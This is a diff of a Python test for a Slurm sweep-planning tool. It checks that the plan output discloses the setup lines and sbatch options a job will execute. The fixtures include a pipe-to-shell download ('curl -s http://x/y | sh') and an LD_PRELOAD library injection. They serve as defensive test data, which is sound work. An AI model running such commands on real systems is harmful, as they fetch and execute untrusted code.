@@ -70,15 +70,18 @@ def test_names_lists_and_scripts_are_taken_as_slurm_writes_them() -> None:
 def test_a_plan_shows_what_the_file_has_the_jobs_execute(tmp_path: Path, study: Any) -> None:
     lines = ["module load cuda", "curl -s http://x/y | sh"]
     corpus = write_corpus(tmp_path / "text.txt")
-    file = write_sweep(tmp_path / "x.yaml", corpus, resources={"slurm": {"setup": lines}})
+    options = {"export": "LD_PRELOAD=/tmp/x.so"}
+    file = write_sweep(tmp_path / "x.yaml", corpus, resources={"slurm": {"setup": lines, "options": options}})
     _, plain, _ = study("plan", file)
     assert "curl" not in plain
     _, shown, _ = study("plan", file, "--on", "slurm")
     shown_lines = shown.splitlines()
     start = shown_lines.index("Every Slurm job first executes these lines of the sweep file as you:")
-    assert shown_lines[start + 1 :] == [f"  {line}" for line in lines]
+    given = "Every Slurm job has these options of the sweep file, which may run programs, too:"
+    assert shown_lines[start + 1 :] == [*(f"  {line}" for line in lines), given, "  --export=LD_PRELOAD=/tmp/x.so"]
     _, told, _ = study("plan", file, "--on", "slurm", "--json")
     assert json.loads(told)["executed"] == lines
+    assert json.loads(told)["sbatch_options"] == ["--export=LD_PRELOAD=/tmp/x.so"]
 
 
 def test_the_example_of_the_documentation_has_lines_that_are_executed() -> None:
